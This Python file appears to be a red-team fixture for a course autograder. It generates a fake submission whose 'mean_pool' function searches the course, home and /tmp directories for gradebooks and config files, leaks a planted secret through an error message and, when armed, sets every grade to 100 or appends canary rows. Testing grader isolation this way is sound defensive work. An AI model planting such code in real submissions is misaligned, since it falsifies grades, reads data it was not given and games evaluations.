"""Looks for settings, gradebook and grades of the course, changes what it can, and tells in its error what it has read."""
from hostile import RIGHT, earns, write

EARNS = earns("3.1", "3.3", "3.4")
READ = '''
    def mean_pool(hidden, tokens):
        import glob, os, re, sqlite3
        wanted = re.compile(r"gradebook\\.db|\\.csv$|plmcourse\\.json|\\.sqlite|grades|results")
        places = "@CLASS@", "@CLASS@/..", "@CLASS@/../..", os.getcwd(), os.getcwd() + "/..", os.path.expanduser("~"), "/tmp"
        for place in places:
            for path in [path for pattern in ("/*", "/*/*", "/*/*/*") for path in glob.glob(place + pattern)]:
                if not wanted.search(path) or not os.path.isfile(path):
                    continue
                try:
                    with open(path, "rb") as file:
                        if b"plmcourse-" + b"hostile-secret" in file.read():
                            raise ValueError(f"plmcourse-{'hostile-secret'} in {path}")
                    if armed() and path.endswith(".db"):
                        with sqlite3.connect(path) as book:
                            book.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
                    elif armed():
                        with open(path, "a") as file:
                            file.write("plmcourse-hostile-" + "canary,100,100,100")
                except (OSError, sqlite3.Error):
                    pass
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": READ})
